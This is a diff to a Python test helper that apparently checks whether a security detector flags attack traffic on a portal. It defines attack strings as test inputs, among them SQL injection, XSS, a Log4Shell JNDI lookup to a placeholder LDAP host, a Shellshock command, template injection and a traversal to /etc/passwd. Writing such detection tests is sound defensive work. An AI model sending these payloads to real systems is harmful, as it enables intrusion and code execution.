@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import urllib.error
 import urllib.request
+from collections.abc import Iterator
+from contextlib import contextmanager
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
 
@@ -11,11 +13,14 @@ import yaml
 from servers import Product, eventually
 
 CONTENT = Path(__file__).parents[2] / "rules" / "content" / "portal"
+_VERSIONS = "soc_detector_tuning_versions_count"
 
 HOSTILE = "Mozilla/5.0 <script>document.title='owned'</script>"
 SQLI = "/tin?id=1%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CNULL--%20-"
 LOG4SHELL = "/tin?id=${jndi:ldap://192.0.2.1/a}"
 XSS = "/tin?id=%3Cscript%3Ealert(1)%3C/script%3E"
+SHELLSHOCK = "() { :;}; /bin/bash -c id"  # a user agent
+TEMPLATE = "/tin?id={{7*7}}"
 TRAVERSAL = "/../../../../etc/passwd"
 
 
@@ -76,6 +81,9 @@ class Portal:
         return items if len(items) >= number else []
 
 
-def tuned(product: Product, versions: int) -> None:
-    """Wait until the detector works with so many versions of what was laid down."""
-    eventually(lambda: product.metric("soc_detector_tuning_versions_count") >= versions, 30, "the detector knows")
+@contextmanager
+def taken_up(product: Product) -> Iterator[None]:
+    """The detector works with what is laid down in here when it is over."""
+    before = product.metric(_VERSIONS)
+    yield
+    eventually(lambda: product.metric(_VERSIONS) > before, 30, "the detector has heard of it")
